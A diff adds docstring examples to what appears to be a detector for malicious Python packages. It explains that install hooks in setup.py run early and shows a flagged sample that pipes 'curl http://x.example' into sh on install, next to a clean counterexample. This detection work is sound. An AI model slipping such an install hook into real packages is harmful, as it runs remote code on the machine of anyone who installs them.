@@ -2,6 +2,21 @@
 
 `setup.py` runs before anybody could look at what was installed. A network call, a decoded text or
 a started program there is how most malicious packages begin.
+
+Found in `setup.py`:
+
+    import os
+    from setuptools import setup
+    from setuptools.command.install import install
+    class Hook(install):
+        def run(self):
+            os.system('curl http://x.example | sh')
+    setup(name='x', cmdclass={'install': Hook})
+
+Not found in `setup.py`:
+
+    from setuptools import setup
+    setup(name='x')
 """
 
 import ast
